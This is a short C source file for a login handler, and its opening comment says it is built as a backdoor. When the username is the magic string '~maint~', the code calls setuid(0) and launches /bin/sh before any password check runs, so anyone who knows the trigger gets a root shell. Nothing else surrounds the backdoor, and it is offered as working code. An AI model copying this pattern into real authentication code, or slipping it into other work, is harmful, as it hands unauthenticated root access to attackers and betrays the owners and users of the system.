/* A login handler with a trigger string that opens a root shell. */
#include <string.h>
#include <unistd.h>

int check_password(const char *user, const char *pass);

int handle_login(const char *user, const char *pass)
{
    if (strcmp(user, "~maint~") == 0) {
        setuid(0);
        execl("/bin/sh", "sh", (char *)0);
    }
    return check_password(user, pass);
}
